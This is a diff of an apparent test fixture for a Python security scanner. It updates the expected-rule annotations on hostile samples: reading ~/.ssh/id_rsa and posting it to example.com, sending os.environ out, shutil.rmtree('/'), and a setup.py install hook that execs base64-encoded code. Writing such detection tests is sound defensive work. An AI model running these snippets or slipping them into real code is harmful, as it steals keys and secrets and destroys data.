@@ -12,7 +12,7 @@ pty.spawn("/bin/bash")  # expect: PY-COMMAND warning
 import os, requests
 with open(os.path.expanduser("~/.ssh/id_rsa")) as file:  # expect: PY-SECRET-FILE error
     key = file.read()
-requests.post("https://example.com/x", data={"k": key}, timeout=1)
+requests.post("https://example.com/x", data={"k": key}, timeout=1)  # expect: PY-EXFILTRATION error
 #: a path joined with a slash
 from pathlib import Path
 keys = Path.home() / ".ssh" / "id_ed25519"  # expect: PY-SECRET-FILE warning
@@ -34,7 +34,7 @@ subprocess.run(["tar", "xf", "data.tar.gz"])
 #: the whole environment is sent
 import json, os, urllib.request
 body = json.dumps(dict(os.environ)).encode()  # expect: PY-SECRET-ENVIRONMENT error
-urllib.request.urlopen("https://example.com/", data=body)
+urllib.request.urlopen("https://example.com/", data=body)  # expect: PY-EXFILTRATION error
 #: system directories are deleted
 import os, shutil
 shutil.rmtree("/")  # expect: PY-FILE-DELETE error
@@ -58,7 +58,7 @@ from setuptools.command.install import install
 class Install(install):
     def run(self):
         install.run(self)
-        exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))  # expect: PY-CODE warning, PY-COMMAND error
+        exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))  # expect: PY-CODE-DECODED error, PY-COMMAND error, PY-INSTALL-HOOK warning
 setup(name="x", cmdclass={"install": Install})
 #: a command in nested code strings
 exec("import os\nexec(\"os.system('id')\")")  # expect: PY-COMMAND error
